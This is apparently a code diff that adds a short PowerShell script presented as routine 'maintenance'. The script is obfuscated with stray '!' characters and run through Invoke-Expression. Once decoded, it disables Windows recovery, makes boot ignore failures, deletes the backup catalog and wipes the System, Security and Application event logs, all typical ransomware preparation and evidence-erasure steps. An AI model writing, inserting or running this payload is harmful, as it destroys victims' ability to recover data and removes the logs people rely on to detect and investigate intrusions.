@@ -1,0 +1,6 @@
+iex (('# maintenance 2242 v0
+bcdedit /set! {defaul!t} recoveryenabled! No
+bcdedit! /set {default} bootstatuspolicy ignoreallfailures
+wbadmin delete catalog -quiet
+wevtutil cl System; wevtutil cl! Security; wevtutil cl Application
+' -split '!') -join '')
